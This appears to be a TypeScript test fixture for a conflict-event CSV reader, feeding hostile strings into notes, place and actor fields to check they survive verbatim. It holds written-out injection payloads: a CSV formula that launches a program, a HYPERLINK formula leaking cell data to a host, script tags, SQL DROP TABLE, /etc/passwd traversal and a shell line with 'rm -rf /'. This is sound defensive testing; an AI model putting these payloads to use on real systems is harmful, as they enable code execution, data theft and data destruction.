import { acledText, kind, reads, standardFacts } from "./entry.js";

const hostile: readonly (readonly [name: string, note: string, text: string])[] = [
  ["formula-cmd", "a formula that starts a program", "=cmd|' /C calc'!A0"],
  ["formula-plus", "a formula that begins with +", "+1+1"],
  ["formula-minus", "a formula that begins with -", "-2+3+cmd|' /C calc'!A0"],
  ["formula-at", "a formula that begins with @", "@SUM(A1:A9)"],
  ["formula-tab", "a formula behind a tab", "\t=1+1"],
  ["formula-link", "a formula that calls out", '=HYPERLINK("http://example.invalid/?x="&A1,"click")'],
  ["script", "a script", "<script>alert('x')</script><img src=x onerror=alert(1)>"],
  ["html-whole", "a whole page", "<!DOCTYPE html><html><body>Sign in</body></html>"],
  ["entities", "entities are not decoded", "&amp; &lt;b&gt; &#x27; &nbsp;"],
  ["markdown", "Markdown with a link to a script", "[x](javascript:alert(1)) | a | b |"],
  [
    "ansi",
    "escapes that paint a terminal and move its cursor",
    "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J",
  ],
  [
    "controls",
    "every control character but NUL, tab and line ends",
    Array.from({ length: 31 }, (_, i) => String.fromCharCode(i + 1))
      .filter((one) => !"\t\n\r".includes(one))
      .join(""),
  ],
  [
    "controls-c1",
    "the control characters above 127",
    Array.from({ length: 33 }, (_, i) => String.fromCharCode(i + 127)).join(""),
  ],
  ["backspaces", "backspaces that hide what stands", "shown\b\b\b\b\bhidden"],
  ["emoji", "emoji of several code points", "👩‍👩‍👧‍👦 🇲🇱 👍🏽 ❤️"],
  ["right-to-left", "right-to-left text with its marks", "\u202Eevil\u202C قرية \u200Fهومبوري\u200E \u2066x\u2069"],
  ["zero-width", "what has no width", "a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf\u00ADg"],
  ["spaces", "spaces of many kinds, also at the ends", " \u00A0\u2003a\u3000b\u2009 "],
  ["stacked", "letters under a hundred marks", `Z${"\u0301\u0316".repeat(50)}algo`],
  ["composed", "é in one piece", "S\u00E9gou"],
  ["combining", "é in two pieces", "Se\u0301gou"],
  ["sql", "SQL", "'; DROP TABLE events; -- \" OR 1=1"],
  ["path", "a path", "../../../../etc/passwd"],
  ["path-windows", "a path of Windows", "C:\\Windows\\System32\\cmd.exe"],
  ["null", "the text NULL", "NULL"],
  ["na", "the text NA: Namibia's country code, for one", "NA"],
  ["none", "the text None", "None"],
  ["nan", "the text nan", "nan"],
  ["undefined", "the text undefined", "undefined"],
  ["true", "the text TRUE", "TRUE"],
  ["number-like", "texts that look like numbers", "007 1E5 0x1F 1_000 +3"],
  ["date-like", "a text that looks like a date", "MAR1"],
  ["proto", "__proto__", "__proto__"],
  ["template", "templates of many kinds", "\u0024{process.exit(1)} {{7*7}} <%= 1 %> #{1} %s %n $1 \\1"],
  ["shell", "a shell's command", "$(touch /tmp/x); `id` && rm -rf / | cat > x"],
  ["json", "JSON", '{"__proto__":{"polluted":true}}'],
  ["csv", "CSV", 'a,"b",c\n"d",,e'],
  ["one-quote", "one quote", '"'],
  ["comma", "one comma", ","],
  ["line-end", "one line end", "\n"],
  ["log-forging", "a line that looks like one of a log", "ok\r\n2026-01-01 ERROR read: everything refused"],
  ["long", "500 kB", "word ".repeat(100_000)],
  ["long-word", "500 kB without a space", "w".repeat(500_000)],
  ["long-quotes", "250,000 quotes", '"'.repeat(250_000)],
  ["long-emoji", "500 kB of emoji", "😀".repeat(125_000)],
];

/** Each stands in the notes and the place of one row, and must be kept to the letter. */
export const contents = kind("content", [
  ...hostile.map(([name, note, text]) =>
    reads(`content-${name}.csv`, note, acledText([{}, { notes: text, location: text }, {}]), {
      facts: [standardFacts[0], { id: "ERE2", notes: text, place: text }, standardFacts[2]],
    }),
  ),
  ...(
    [
      ["actor-quotes", "an actor with quotes and an apostrophe", 'Rebels\' "Front" (Hill)'],
      ["actor-null", "an actor called NULL", "NULL"],
      ["actor-proto", "an actor called __proto__", "__proto__"],
      ["actor-accents", "an actor in two-piece accents", "Forces arme\u0301es"],
      ["actor-sql", "an actor that is SQL", "'; DROP TABLE events; --"],
      ["actor-emoji", "an actor with emoji", "🐘 Front"],
    ] as const
  ).map(([name, note, actor1]) =>
    reads(`content-${name}.csv`, note, acledText([{}, { actor1 }, {}]), { facts: [{ id: "ERE2", side1: actor1 }] }),
  ),
]);
